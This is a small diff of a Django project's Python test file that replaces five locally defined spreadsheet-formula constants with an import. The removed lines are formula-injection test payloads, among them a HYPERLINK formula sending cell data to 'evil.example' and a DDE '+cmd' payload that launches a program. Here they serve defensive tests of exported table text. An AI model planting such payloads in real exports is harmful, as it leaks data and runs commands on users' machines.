@@ -17,17 +17,12 @@ from workplan.org.models import Department
 from workplan.plans.models import Task
 from workplan.plans.table import TaskValues
 from workplan.plans.table_actions import do_update_task
+from workplan.plans.tests.test_table_formula_text import AT, LINK, MINUS, PIPE, SUM
 from workplan.progress.actions import ReportData
 from workplan.reports.tests.conftest import plan_with_reports
 from workplan.supervision.actions import do_give_instruction, do_issue_notice
 
 pytestmark = pytest.mark.django_db
-
-LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-SUM = "=1+1"
-PIPE = "+cmd|' /C calc'!A0"
-AT = "@SUM(1)"
-MINUS = "-2+3"
 
 
 @pytest.fixture
